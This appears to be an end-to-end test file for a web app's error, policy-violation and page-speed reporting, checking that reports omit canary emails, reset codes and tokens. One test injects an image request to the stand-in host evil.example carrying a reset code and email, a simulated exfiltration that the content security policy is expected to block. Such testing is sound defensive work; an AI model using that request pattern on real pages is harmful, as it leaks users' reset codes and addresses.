import type { Page } from 'playwright-core';
import { describe, expect, test } from 'vitest';
import { dashboardCopy } from '../../src/copy/dashboard.ts';
import { forgotPasswordCopy } from '../../src/copy/forgot-password.ts';
import { CHUNKS, chunksWith, waitForIdleChunks } from './support/chunks.ts';
import {
  makeCustomer,
  PAGE_WITHOUT_APP,
  PATHS,
  signInAt,
  submitLogin,
  waitForHeading,
} from './support/customers.ts';
import { inNewTab, inTab } from './support/in-tab.ts';
import { leaveMark, type Reports, reportsFromNow } from './support/reports.ts';
import { screenOf } from './support/screen.ts';
import type { Tab } from './support/tab.ts';

const FAILED_LOAD = /Failed to load resource|ChunkLoadError|Loading chunk/;
const CANARIES = ['canary-mail@example.com', 'canary-oob-code', 'eyJhbGciOiJub25lIn0.canary'];
const [MAIL, CODE, TOKEN] = CANARIES as [string, string, string];

const kindsOf = async (reports: Reports) => (await reports()).map(({ kind }) => kind);

/** Records all requests to the address of reports, with their headers. */
function recordSending(page: Page): string[] {
  const sent: string[] = [];
  page.on('request', async (request) => {
    if (request.url().endsWith('/sandbox/reports')) {
      sent.push(JSON.stringify([await request.allHeaders(), request.postData()]));
    }
  });
  return sent;
}

/** Opens a form and focuses a field, so that all prefetched code has loaded, the reporter too. */
async function openForm(
  { page }: Pick<Tab, 'page'>,
  path: '/login' | '/forgot-password' = '/login',
): Promise<void> {
  await page.goto(path);
  await page.getByRole('textbox', { name: 'Email address' }).click();
  await waitForIdleChunks(page);
}

describe('what goes wrong is reported', () => {
  test('an error, a rejection, and violations of the policy, on a page with a code in its address: by name, place, origin or keyword, without their message', () =>
    inTab(async (tab) => {
      const { page } = tab;
      tab.allow(/page error: |Failed to load resource: .*accounts:resetPassword/);
      tab.allow(/^CSP:|Content Security Policy|another origin: https:..evil.example/);
      const sent = recordSending(page);
      const reports = await reportsFromNow(tab);
      await page.goto(`/auth?mode=resetPassword&oobCode=${CODE}`);
      await page.getByRole('heading', { level: 1 }).waitFor();
      await page.evaluate(
        ([code, mail, token]) => {
          setTimeout(() => {
            throw new TypeError(`${mail} is no customer`);
          });
          void Promise.reject(token);
          new Image().src = `https://evil.example/${code}?mail=${mail}`;
          document.body.setAttribute('style', `--mail: "${mail}"`);
        },
        [CODE, MAIL, TOKEN],
      );
      await expect.poll(() => kindsOf(reports)).toHaveLength(4);
      const received = await reports();
      expect(received).toEqual(
        expect.arrayContaining([
          expect.objectContaining({ kind: 'error', name: 'TypeError', screen: 'actionLink' }),
          expect.objectContaining({ kind: 'rejection', name: 'other', release: 'sandbox' }),
          expect.objectContaining({ directive: 'img-src', blocked: 'https://evil.example' }),
          expect.objectContaining({ directive: 'style-src-attr', blocked: 'inline' }),
        ]),
      );
      expect(received.find(({ kind }) => kind === 'error')).toMatchObject({
        states: expect.arrayContaining(['app.actionLink']),
      });
      for (const canary of CANARIES) expect(JSON.stringify([received, sent])).not.toContain(canary);
    }));

  test('a missing chunk, and the screen that breaks without it', () =>
    inNewTab(async (tab) => {
      tab.allow(FAILED_LOAD);
      const reports = await reportsFromNow(tab);
      await openForm(tab, '/forgot-password');
      await tab.page.route(CHUNKS, (route) => route.fulfill({ status: 404, body: 'gone' }));
      await tab.page.getByRole('link', { name: forgotPasswordCopy.logIn }).click();
      await waitForHeading(tab.page, 'Something went wrong');
      await expect.poll(() => kindsOf(reports)).toEqual(expect.arrayContaining(['file', 'flow']));
      const received = await reports();
      expect(received.find(({ kind }) => kind === 'file')).toMatchObject({
        file: expect.stringMatching(/^[\w-]+\.\w+\.js$/),
      });
      expect(received.find(({ kind }) => kind === 'flow')).toMatchObject({
        name: 'ChunkLoadError',
      });
    }));

  test('if the reporter itself fails to load, only that', () =>
    inNewTab(async (tab) => {
      tab.allow(FAILED_LOAD);
      const reports = await reportsFromNow(tab);
      await tab.page.route(CHUNKS, (route) => route.fulfill({ status: 404, body: 'gone' }));
      await tab.page.goto('/dashboard');
      await expect.poll(reports).toMatchObject([{ kind: 'unreported', release: 'sandbox' }]);
    }));
});

describe('a page’s speed', () => {
  const vitalsOf = async (reports: Reports) =>
    (await reports()).flatMap((report) => (report.kind === 'vitals' ? [report] : []));

  test('is reported when the page is left, with the waiting times for the amount and the slider', () =>
    inNewTab(async (tab) => {
      const { page } = tab;
      const { button, slider } = screenOf(tab);
      const reports = await reportsFromNow(tab);
      const customer = await makeCustomer(tab, 'dashboard');
      await openForm(tab);
      await submitLogin(tab, customer);
      await button(dashboardCopy.limit.cashOut).click();
      await slider().waitFor();
      await page.goto(PATHS.dashboard);
      await button(dashboardCopy.limit.about).click();
      await waitForIdleChunks(page);
      await page.goto(PAGE_WITHOUT_APP);
      await expect.poll(() => vitalsOf(reports)).toHaveLength(2);
      const [visit, again] = await vitalsOf(reports);
      expect(visit).toMatchObject({ screen: 'login', release: 'sandbox' });
      expect(Object.keys(visit?.vitals ?? {})).toEqual(
        expect.arrayContaining(['FCP', 'LCP', 'TTFB']),
      );
      expect(Object.keys(visit?.moments ?? {})).toEqual(['logInToAmount', 'cashOutToSlider']);
      expect(Object.keys(again?.moments ?? {})).toEqual(['openToAmount']);
    }));

  test('is not even measured under Do Not Track', () =>
    inNewTab(async (tab) => {
      const { page } = tab;
      await page.addInitScript(() => {
        Object.defineProperty(navigator, 'globalPrivacyControl', { value: true });
      });
      const vitals = chunksWith('largest-contentful-paint');
      const fetched: string[] = [];
      page.on('request', (request) => vitals.test(request.url()) && fetched.push(request.url()));
      const reports = await reportsFromNow(tab);
      await openForm(tab);
      await leaveMark(tab, reports);
      await page.goto(PAGE_WITHOUT_APP);
      await openForm(tab);
      expect(await kindsOf(reports)).toEqual(['error']);
      expect(fetched).toEqual([]);
    }));
});

test('the desk lists the reports and moves the clock, and the contact panel’s e-mail names the version', () =>
  inTab(async (tab) => {
    const { page } = tab;
    const reports = await reportsFromNow(tab);
    await signInAt(tab, 'dashboard', 'overdue');
    await leaveMark(tab, reports);
    await page.getByRole('button', { name: 'Contact us' }).first().click();
    await page
      .getByRole('link', { name: 'Send an email' })
      .and(page.locator('[href*="Version%20sandbox"]'))
      .waitFor();
    await page.goto('/sandbox');
    await page.locator('#report-list').getByText('MarkError').first().waitFor();
    await page.getByRole('button', { name: '1 day on' }).click();
    await page.getByText('The clock has moved on.').waitFor();
  }));
